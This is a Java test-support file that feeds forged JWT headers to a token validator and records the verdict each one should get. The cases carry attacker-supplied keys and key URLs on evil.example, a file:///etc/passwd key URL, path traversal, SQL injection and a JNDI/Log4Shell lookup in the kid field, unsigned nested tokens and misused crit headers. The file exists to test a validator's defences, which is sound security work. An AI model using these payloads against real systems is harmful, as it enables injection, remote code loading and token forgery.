package org.janusfhir.app.access.token;

import java.util.stream.Stream;

/** Headers of tokens that try to choose the key, the file or the meaning. */
record HeaderAttacks(Forge forge, GoodToken good) {
  private static final String NESTED = "{\"alg\":\"RS256\",\"kid\":\"rsa\",\"cty\":\"JWT\"}";

  Stream<Attack> headers() {
    String jwk = forge.strangeJwk();
    Stream<Attack> carried =
        Stream.of(
                "\"jwk\":" + jwk,
                "\"jku\":\"https://evil.example/jwks\"",
                "\"jku\":\"file:///etc/passwd\"",
                "\"x5u\":\"https://evil.example/x5u\"",
                "\"x5c\":[\"MIIB\"]",
                "\"x5t\":\"AAAA\"",
                "\"x5t#S256\":\"AAAA\"")
            .flatMap(
                member ->
                    Stream.of(
                        Attack.token(
                            "brings its key: " + member.substring(0, 9),
                            forge.strange("{\"alg\":\"RS256\",\"kid\":\"mine\"," + member + '}'),
                            Verdict.KEY),
                        Attack.token(
                            "brings its key by a known kid: " + member.substring(0, 9),
                            forge.strange("{\"alg\":\"RS256\",\"kid\":\"rsa\"," + member + '}'),
                            Verdict.SIGNATURE)));
    Stream<Attack> kids =
        Stream.of(
                "other",
                "",
                "RSA",
                "rsa ",
                "../../../../../dev/null",
                "/etc/passwd",
                "x' OR '1'='1",
                "x'; DROP TABLE keys;--",
                "${jndi:ldap://evil.example/a}",
                "\\u0000",
                "ec")
            .map(
                kid ->
                    Attack.token(
                        "kid " + kid, forge.strange(Forge.header("RS256", kid)), Verdict.KEY));
    Stream<Attack> types =
        Stream.of("JWT", "jwt", "at+jwt", "AT+JWT", "application/at+jwt", "application/jwt")
            .map(type -> typed(type, Verdict.GRANTED));
    Stream<Attack> otherTypes =
        Stream.of("logout+jwt", "dpop+jwt", "secevent+jwt", "token-introspection+jwt", "JOSE", "")
            .map(type -> typed(type, Verdict.TYPE));
    Stream<Attack> others =
        Stream.of(
            Attack.token(
                "no kid", forge.issued("{\"alg\":\"RS256\"}", Forge.claims()), Verdict.GRANTED),
            Attack.token(
                "no kid, by a stranger", forge.strange("{\"alg\":\"RS256\"}"), Verdict.KEY),
            Attack.token(
                "known kid, by a stranger", forge.strange(Forge.RSA_HEADER), Verdict.SIGNATURE),
            Attack.token(
                "own key in its header, too",
                forge.issued(
                    "{\"alg\":\"RS256\",\"kid\":\"rsa\",\"jwk\":" + jwk + '}', Forge.claims()),
                Verdict.GRANTED),
            Attack.token(
                "kid is a number",
                forge.issued("{\"alg\":\"RS256\",\"kid\":1}", Forge.claims()),
                Verdict.NO_JWT),
            Attack.token(
                "typ is a number",
                forge.issued("{\"alg\":\"RS256\",\"kid\":\"rsa\",\"typ\":1}", Forge.claims()),
                Verdict.NO_JWT),
            critical("[\"exp\"],\"exp\":1", Verdict.NO_JWT),
            critical("[\"b64\"],\"b64\":false", Verdict.NO_JWT),
            critical("[\"unheard-of\"]", Verdict.NO_JWT),
            critical("[]", Verdict.GRANTED),
            critical("\"exp\"", Verdict.NO_JWT),
            Attack.token("a token within", forge.issued(NESTED, good.text()), Verdict.GRANTED),
            Attack.token(
                "an unsigned token within",
                forge.issued(NESTED, good.unsigned("none", "AA")),
                Verdict.ALGORITHM),
            Attack.token(
                "a good token within a stranger's",
                forge.strange(NESTED, good.text()),
                Verdict.SIGNATURE),
            Attack.token(
                "a stranger's token within",
                forge.issued(NESTED, forge.strange(Forge.RSA_HEADER)),
                Verdict.SIGNATURE),
            Attack.token(
                "compressed",
                forge.issued("{\"alg\":\"RS256\",\"kid\":\"rsa\",\"zip\":\"DEF\"}", Forge.claims()),
                Verdict.GRANTED));
    return Stream.of(carried, kids, types, otherTypes, others).flatMap(rows -> rows);
  }

  private Attack typed(String type, Verdict verdict) {
    return Attack.token(
        "typ '" + type + "'",
        forge.issued(
            "{\"alg\":\"RS256\",\"kid\":\"rsa\",\"typ\":\"" + type + "\"}", Forge.claims()),
        verdict);
  }

  private Attack critical(String crit, Verdict verdict) {
    return Attack.token(
        "crit " + crit,
        forge.issued("{\"alg\":\"RS256\",\"kid\":\"rsa\",\"crit\":" + crit + '}', Forge.claims()),
        verdict);
  }
}
